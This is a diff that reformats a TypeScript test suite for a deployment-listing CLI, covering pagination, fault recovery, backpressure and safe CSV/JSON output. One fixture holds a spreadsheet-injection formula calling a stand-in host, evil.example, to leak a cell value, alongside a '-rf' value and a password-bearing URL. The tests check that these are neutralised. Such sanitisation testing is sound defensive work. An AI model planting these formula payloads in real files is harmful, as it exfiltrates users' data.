@@ -32,7 +32,7 @@ const idsOf = (ndjson: string) => lines(ndjson).map((l) => (JSON.parse(l) as { i
 const descending = (from: number, n: number) => Array.from({ length: n }, (_, i) => from - i);
 const SLOW = { timeoutMs: 90_000 };
 
-describe('the whole history of the demo\'s monorepo-ci (50,000 deployments)', () => {
+describe("the whole history of the demo's monorepo-ci (50,000 deployments)", () => {
   it('--all -o ndjson prints every deployment once, newest first, as many as the history holds', { timeout: 120_000 }, async () => {
     const { json: first } = await fetchList(demo, big, 'take=1');
     const from = demo.requests.length;
@@ -94,7 +94,7 @@ describe('the whole history of the demo\'s monorepo-ci (50,000 deployments)', ()
     expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/);
   });
 
-  it('the table prints one heading and the rows in the same columns; the total is stdout\'s last line', async () => {
+  it("the table prints one heading and the rows in the same columns; the total is stdout's last line", async () => {
     const r = await runBin(['deployments', big, '--all', '--limit', '1200'], { env });
     expect(r.code, r.stderr).toBe(0);
     const out = lines(r.stdout);
@@ -113,7 +113,7 @@ describe('the whole history of the demo\'s monorepo-ci (50,000 deployments)', ()
     expect(r.stderr).toBe('app monorepo-ci · server build-ams-2\n');
   });
 
-  it('-o json --with-total with --all: {count, deployments}, count the history\'s total from the first answer', async () => {
+  it("-o json --with-total with --all: {count, deployments}, count the history's total from the first answer", async () => {
     const r = await runBin(['deployments', big, '--all', '--limit', '250', '-o', 'json', '--with-total'], { env });
     expect(r.code, r.stderr).toBe(0);
     const wrapped = JSON.parse(r.stdout) as { count: number; deployments: { id: number }[] };
@@ -133,7 +133,9 @@ describe('the whole history of the demo\'s monorepo-ci (50,000 deployments)', ()
 
 describe('filters on one page (without --all)', () => {
   let shop: string;
-  beforeAll(() => { shop = demo.app(); });
+  beforeAll(() => {
+    shop = demo.app();
+  });
 
   it('--status and --branch filter the page asked for, and the count line says how many are shown', async () => {
     const r = await runBin(['deployments', shop, '--take', '60', '--status', 'finished', '--branch', 'main'], { env });
@@ -174,9 +176,15 @@ const T0 = Date.parse('2026-11-20T12:00:00Z');
 
 function plainRow(id: number): Rec {
   return {
-    id, deployment_uuid: `dep${String(id).padStart(21, '0')}`, status: id % 7 === 0 ? 'failed' : 'finished', commit: 'a'.repeat(40),
-    commit_message: `Change number ${id}`, created_at: new Date(T0 + id * 60_000).toISOString(), finished_at: new Date(T0 + id * 60_000 + 90_000).toISOString(),
-    server_name: 'edge-1', is_webhook: true,
+    id,
+    deployment_uuid: `dep${String(id).padStart(21, '0')}`,
+    status: id % 7 === 0 ? 'failed' : 'finished',
+    commit: 'a'.repeat(40),
+    commit_message: `Change number ${id}`,
+    created_at: new Date(T0 + id * 60_000).toISOString(),
+    finished_at: new Date(T0 + id * 60_000 + 90_000).toISOString(),
+    server_name: 'edge-1',
+    is_webhook: true,
   };
 }
 
@@ -184,7 +192,14 @@ function plainRow(id: number): Rec {
  * A server with `n` deployments (ids n..1, newest first). `before(n, req)` runs before the n-th list
  * request is answered: it may add deployments, or return a handler that answers instead (a fault).
  */
-async function historyServer(n: number, options: { row?: (id: number) => Rec; before?: (call: number, req: ReceivedRequest) => Handler | void; onBody?: (bytes: number) => void } = {}): Promise<History> {
+async function historyServer(
+  n: number,
+  options: {
+    row?: (id: number) => Rec;
+    before?: (call: number, req: ReceivedRequest) => Handler | void;
+    onBody?: (bytes: number) => void;
+  } = {},
+): Promise<History> {
   const row = options.row ?? plainRow;
   const h: History = {
     rows: Array.from({ length: n }, (_, i) => row(n - i)),
@@ -218,7 +233,11 @@ const all = (h: History, ...flags: string[]) => runBin(['deployments', APP, '--a
 describe('a history that changes while it is read', () => {
   it('deployments inserted between requests: no row twice, none missing', async () => {
     // Small rows: two requests of 100, then of 1000 (the most the scan asks for).
-    const h = await historyServer(6000, { before: (call) => { if (call % 2 === 0) h.arrive(3); } });
+    const h = await historyServer(6000, {
+      before: (call) => {
+        if (call % 2 === 0) h.arrive(3);
+      },
+    });
     const r = await all(h, '-o', 'ndjson');
     expect(r.code, r.stderr).toBe(0);
     // The history as it was when the reading began: the newer ones came after.
@@ -233,7 +252,7 @@ describe('faults in the middle of a reading', () => {
   const unavailable: Handler = json(503, { message: 'Service Unavailable' });
 
   it.each([
-    ['a 503 that outlasts the client\'s own retries', unavailable],
+    ["a 503 that outlasts the client's own retries", unavailable],
     ['connection resets in the middle of the body', reset('mid-body')],
   ])('%s: the reading goes on where it stopped and completes', { timeout: 60_000 }, async (_name, handler) => {
     // Both requests in flight and the client's own two retries of each: the scan itself has to go on.
@@ -279,12 +298,16 @@ describe('faults in the middle of a reading', () => {
   });
 
   it('a server that ignores skip: the rows it sends once, and a warning that some may be missing', async () => {
-    const h: History = await historyServer(3000, { before: (_call, req) => json(200, { count: 3000, deployments: h.rows.slice(0, Number(req.query.get('take'))) }) });
+    const h: History = await historyServer(3000, {
+      before: (_call, req) => json(200, { count: 3000, deployments: h.rows.slice(0, Number(req.query.get('take'))) }),
+    });
     const r = await all(h, '-o', 'ndjson');
     expect(r.code, r.stderr).toBe(0);
     // 100 + 100 + 1000 (the largest request): then the same rows again, twice, and the reading ends.
     expect(idsOf(r.stdout)).toEqual(descending(3000, 1001));
-    expect(r.stderr).toMatch(/^dms: warning: the history moved in a way the reading could not follow; some deployments may be missing\.\n$/);
+    expect(r.stderr).toMatch(
+      /^dms: warning: the history moved in a way the reading could not follow; some deployments may be missing\.\n$/,
+    );
   });
 });
 
@@ -293,14 +316,18 @@ describe('what is printed', () => {
     ...plainRow(id),
     git_branch: id % 2 === 0 ? 'main' : '-rf',
     commit_message: [
-      '=HYPERLINK("http://evil.example/?x="&A1,"click")', 'Fix "quotes", commas\nand the body', '+1 for spreadsheets',
-      '@SUM(A1:A9)', 'see https://deploy:hunter2@db.example.com/x', 'bidi \u202eevil\u202c and \u0085 NEL \u2028 LS',
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      'Fix "quotes", commas\nand the body',
+      '+1 for spreadsheets',
+      '@SUM(A1:A9)',
+      'see https://deploy:hunter2@db.example.com/x',
+      'bidi \u202eevil\u202c and \u0085 NEL \u2028 LS',
     ][id % 6],
     server_name: 'edge\u001b[31m-red\u0007',
     manual_webhook_secret_provider_a: 'whsec_topsecretvalue',
   });
 
-  it('csv: a header, the model\'s columns, RFC 4180 quoting, formulas neutralised, controls and passwords gone', async () => {
+  it("csv: a header, the model's columns, RFC 4180 quoting, formulas neutralised, controls and passwords gone", async () => {
     const h = await historyServer(12, { row: nasty });
     const r = await all(h, '-o', 'csv');
     expect(r.code, r.stderr).toBe(0);
@@ -311,10 +338,10 @@ describe('what is printed', () => {
     const byId = new Map(rows.slice(1).map((f) => [Number(f[9]), f]));
     expect(byId.get(12)![3]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
     expect(byId.get(7)![3]).toBe('Fix "quotes", commas');
-    expect(byId.get(8)![3]).toBe('\'+1 for spreadsheets');
-    expect(byId.get(9)![3]).toBe('\'@SUM(A1:A9)');
+    expect(byId.get(8)![3]).toBe("'+1 for spreadsheets");
+    expect(byId.get(9)![3]).toBe("'@SUM(A1:A9)");
     expect(byId.get(10)![3]).toBe('see https://deploy:••••@db.example.com/x');
-    expect(byId.get(11)![4]).toBe('\'-rf');
+    expect(byId.get(11)![4]).toBe("'-rf");
     expect(byId.get(12)![0]).toBe('finished');
     expect(byId.get(12)![5]).toBe('2026-11-20T12:12:00Z');
     expect(byId.get(12)![6]).toBe('2026-11-20T12:13:30Z');
@@ -324,18 +351,21 @@ describe('what is printed', () => {
     expect(r.stdout).not.toMatch(/hunter2|\u001b|\u0007|\u202e|\u0085|\u2028/);
   });
 
-  it.each([['ndjson'], ['json']])('%s: secrets masked, and DEL, C1, U+2028/9 and bidi controls escaped (the same values)', async (format) => {
-    const h = await historyServer(12, { row: nasty });
-    const r = await all(h, '-o', format);
-    expect(r.code, r.stderr).toBe(0);
-    expect(r.stdout).not.toMatch(/[\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
-    expect(r.stdout).toContain('\\u202e');
-    expect(r.stdout).not.toMatch(/whsec_topsecretvalue|hunter2/);
-    const records = (format === 'json' ? JSON.parse(r.stdout) : lines(r.stdout).map((l) => JSON.parse(l))) as Rec[];
-    expect(records).toHaveLength(12);
-    expect(records[0]!.manual_webhook_secret_provider_a).toBe('•••• (set)');
-    expect(records.find((d) => d.id === 11)!.commit_message).toBe('bidi \u202eevil\u202c and \u0085 NEL \u2028 LS');
-  });
+  it.each([['ndjson'], ['json']])(
+    '%s: secrets masked, and DEL, C1, U+2028/9 and bidi controls escaped (the same values)',
+    async (format) => {
+      const h = await historyServer(12, { row: nasty });
+      const r = await all(h, '-o', format);
+      expect(r.code, r.stderr).toBe(0);
+      expect(r.stdout).not.toMatch(/[\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
+      expect(r.stdout).toContain('\\u202e');
+      expect(r.stdout).not.toMatch(/whsec_topsecretvalue|hunter2/);
+      const records = (format === 'json' ? JSON.parse(r.stdout) : lines(r.stdout).map((l) => JSON.parse(l))) as Rec[];
+      expect(records).toHaveLength(12);
+      expect(records[0]!.manual_webhook_secret_provider_a).toBe('•••• (set)');
+      expect(records.find((d) => d.id === 11)!.commit_message).toBe('bidi \u202eevil\u202c and \u0085 NEL \u2028 LS');
+    },
+  );
 
   it('the single-page --json escapes the same characters', async () => {
     const h = await historyServer(12, { row: nasty });
@@ -363,7 +393,9 @@ describe('what is printed', () => {
 
 describe('bad input: one line, exit 2, nothing sent', () => {
   let h: History;
-  beforeAll(async () => { h = await historyServer(5); });
+  beforeAll(async () => {
+    h = await historyServer(5);
+  });
 
   it.each([
     [['--all', '--since', 'yesterdayish'], /--since takes a time such as 7d/],
@@ -389,68 +421,84 @@ describe('bad input: one line, exit 2, nothing sent', () => {
 });
 
 describe('a slow reader', () => {
-  it('stdout full: the reading waits (what was fetched and not yet read stays a few answers), and ends complete', { timeout: 120_000 }, async () => {
-    // 4,500 deployments of ~10 KB: ~45 MB of JSON lines, answers of ~3 MB.
-    let served = 0;
-    let consumed = 0;
-    const aheadAtRequest: number[] = [];
-    const h = await historyServer(4500, {
-      row: (id) => ({ ...plainRow(id), commit_message: `Change ${id}\n\n${'x'.repeat(10_000)}` }),
-      before: () => { aheadAtRequest.push(served - consumed); },
-      onBody: (bytes) => { served += bytes; },
-    });
-    const child = spawn(process.execPath, [BIN, 'deployments', APP, '--all', '-o', 'ndjson'], {
-      env: { PATH: process.env.PATH, HOME: process.env.HOME, DMS_CONFIG_DIR: tempConfigDir(), ...h.env }, stdio: ['ignore', 'pipe', 'pipe'],
-    });
-    let peakKb = 0;
-    const sample = () => {
-      try {
-        const m = /VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'));
-        if (m) peakKb = Math.max(peakKb, Number(m[1]));
-      } catch { /* gone, or not Linux */ }
-    };
-    let stderr = '';
-    child.stderr.setEncoding('utf8');
-    child.stderr.on('data', (d: string) => { stderr += d; });
-    // The reader: a chunk at a time, every 3 ms (~20 MB/s at most), so dms has to wait for it.
-    let count = 0;
-    let lastId = Infinity;
-    let ordered = true;
-    let rest = '';
-    child.stdout.on('data', (chunk: Buffer) => {
-      consumed += chunk.length;
-      const text = rest + chunk.toString('latin1');
-      const parts = text.split('\n');
-      rest = parts.pop()!;
-      for (const p of parts) {
-        const id = Number(/^\{"id":(\d+)/.exec(p)?.[1]);
-        ordered &&= id === lastId - 1 || lastId === Infinity;
-        lastId = id;
-        count += 1;
-      }
-      sample();
-      child.stdout.pause();
-      setTimeout(() => child.stdout.resume(), 3);
-    });
-    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
-    expect(code, stderr).toBe(0);
-    expect(count).toBe(4500);
-    expect(ordered).toBe(true);
-    expect(served).toBeGreaterThan(45_000_000);
-    // Without waiting for the reader, dms would fetch at the server's pace and hold tens of MB;
-    // waiting, it is never more than the answers in flight and the one being written ahead.
-    expect(Math.max(...aheadAtRequest)).toBeLessThan(16_000_000);
-    if (peakKb > 0) expect(peakKb).toBeLessThan(400_000);
-  });
+  it(
+    'stdout full: the reading waits (what was fetched and not yet read stays a few answers), and ends complete',
+    { timeout: 120_000 },
+    async () => {
+      // 4,500 deployments of ~10 KB: ~45 MB of JSON lines, answers of ~3 MB.
+      let served = 0;
+      let consumed = 0;
+      const aheadAtRequest: number[] = [];
+      const h = await historyServer(4500, {
+        row: (id) => ({ ...plainRow(id), commit_message: `Change ${id}\n\n${'x'.repeat(10_000)}` }),
+        before: () => {
+          aheadAtRequest.push(served - consumed);
+        },
+        onBody: (bytes) => {
+          served += bytes;
+        },
+      });
+      const child = spawn(process.execPath, [BIN, 'deployments', APP, '--all', '-o', 'ndjson'], {
+        env: { PATH: process.env.PATH, HOME: process.env.HOME, DMS_CONFIG_DIR: tempConfigDir(), ...h.env },
+        stdio: ['ignore', 'pipe', 'pipe'],
+      });
+      let peakKb = 0;
+      const sample = () => {
+        try {
+          const m = /VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'));
+          if (m) peakKb = Math.max(peakKb, Number(m[1]));
+        } catch {
+          /* gone, or not Linux */
+        }
+      };
+      let stderr = '';
+      child.stderr.setEncoding('utf8');
+      child.stderr.on('data', (d: string) => {
+        stderr += d;
+      });
+      // The reader: a chunk at a time, every 3 ms (~20 MB/s at most), so dms has to wait for it.
+      let count = 0;
+      let lastId = Infinity;
+      let ordered = true;
+      let rest = '';
+      child.stdout.on('data', (chunk: Buffer) => {
+        consumed += chunk.length;
+        const text = rest + chunk.toString('latin1');
+        const parts = text.split('\n');
+        rest = parts.pop()!;
+        for (const p of parts) {
+          const id = Number(/^\{"id":(\d+)/.exec(p)?.[1]);
+          ordered &&= id === lastId - 1 || lastId === Infinity;
+          lastId = id;
+          count += 1;
+        }
+        sample();
+        child.stdout.pause();
+        setTimeout(() => child.stdout.resume(), 3);
+      });
+      const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
+      expect(code, stderr).toBe(0);
+      expect(count).toBe(4500);
+      expect(ordered).toBe(true);
+      expect(served).toBeGreaterThan(45_000_000);
+      // Without waiting for the reader, dms would fetch at the server's pace and hold tens of MB;
+      // waiting, it is never more than the answers in flight and the one being written ahead.
+      expect(Math.max(...aheadAtRequest)).toBeLessThan(16_000_000);
+      if (peakKb > 0) expect(peakKb).toBeLessThan(400_000);
+    },
+  );
 
   it('a reader that goes away (| head): dms stops reading and exits quietly', async () => {
     const child = spawn(process.execPath, [BIN, 'deployments', big, '--all', '-o', 'ndjson'], {
-      env: { PATH: process.env.PATH, HOME: process.env.HOME, DMS_CONFIG_DIR: tempConfigDir(), ...env }, stdio: ['ignore', 'pipe', 'pipe'],
+      env: { PATH: process.env.PATH, HOME: process.env.HOME, DMS_CONFIG_DIR: tempConfigDir(), ...env },
+      stdio: ['ignore', 'pipe', 'pipe'],
     });
     const from = demo.requests.length;
     let stderr = '';
     child.stderr.setEncoding('utf8');
-    child.stderr.on('data', (d: string) => { stderr += d; });
+    child.stderr.on('data', (d: string) => {
+      stderr += d;
+    });
     await new Promise<void>((resolve) => child.stdout.once('data', () => resolve()));
     child.stdout.destroy();
     const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
@@ -478,9 +526,16 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i]!;
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') { record.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') {
+    else if (c === ',') {
+      record.push(field);
+      field = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
       record.push(field);
       records.push(record);
       record = [];
